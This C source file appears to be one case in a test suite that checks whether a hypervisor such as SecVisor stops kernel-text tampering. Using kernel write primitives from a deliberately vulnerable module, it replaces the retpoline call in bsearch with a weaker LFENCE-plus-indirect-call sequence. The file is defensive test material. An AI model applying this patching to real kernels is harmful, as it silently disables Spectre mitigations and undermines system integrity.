// Row 13. A legal but weaker variant in kernel text: bsearch's call through a retpoline replaced by LFENCE and an indirect call.
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>

ATTACK("weaker-retpoline-lfence")
{
	struct vulnerable_operation op = { .what = VULNERABLE_CALL_WITH };
	static const u8 weaker[6] = "\x0f\xae\xe8\x41\xff\xd6";
	u64 function = symbol("bsearch"), at;
	u8 call[6] = { 0x2e, 0xe8 };
	s32 relative;

	insert_module("/modules/target.ko");
	// call __x86_indirect_thunk_r14
	at = find_bytes(function, 128, call, 2);
	relative = symbol("__x86_indirect_thunk_r14") - (at + 6);
	kread(at + 2, call + 2, 4);
	if (memcmp(call + 2, &relative, 4))
		failed("bsearch does not call by the retpoline of R14");
	// One element, which the function finds equal if it was called through a retpoline.
	op.in[0] = function;
	op.in[1] = op.in[2] = operate(VULNERABLE_BSS, 0, 0, 0);
	op.in[3] = op.in[4] = 1;
	op.in[5] = symbol("target_probe");
	op.in[6] = 1;
	if (try_operate(&op) || !op.out[0])
		failed("bsearch did not call through a retpoline");
	keep_bytes(at, 6);
	kwrite(at, weaker, 6);
	if (try_operate(&op))
		failed("no call");
	if (!op.out[0])
		succeeded("bsearch called without a retpoline");
	restored("bsearch still calls through a retpoline");
}
